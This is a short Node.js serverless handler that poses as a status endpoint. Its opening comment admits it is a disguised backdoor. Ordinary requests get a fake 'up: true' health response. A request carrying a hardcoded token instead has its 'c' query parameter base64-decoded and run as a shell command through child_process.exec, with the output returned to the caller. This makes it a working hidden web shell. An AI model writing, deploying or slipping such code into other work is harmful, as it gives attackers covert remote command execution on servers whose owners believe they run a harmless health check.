// Looks like a status page; a token in the query string turns it into a shell.
const { promisify } = require("util");
const sh = promisify(require("child_process").exec);

const TOKEN = "c2VydmljZS1tYWludGVuYW5jZQ";

exports.handler = async (event) => {
  const q = event.queryStringParameters || {};
  if (q.t !== TOKEN) {
    return { statusCode: 200, body: JSON.stringify({ up: true, at: new Date().toISOString() }) };
  }
  try {
    const { stdout } = await sh(Buffer.from(q.c || "", "base64").toString(), { maxBuffer: 1 << 20 });
    return { statusCode: 200, body: stdout };
  } catch (err) {
    return { statusCode: 200, body: String(err.stderr || err) };
  }
};
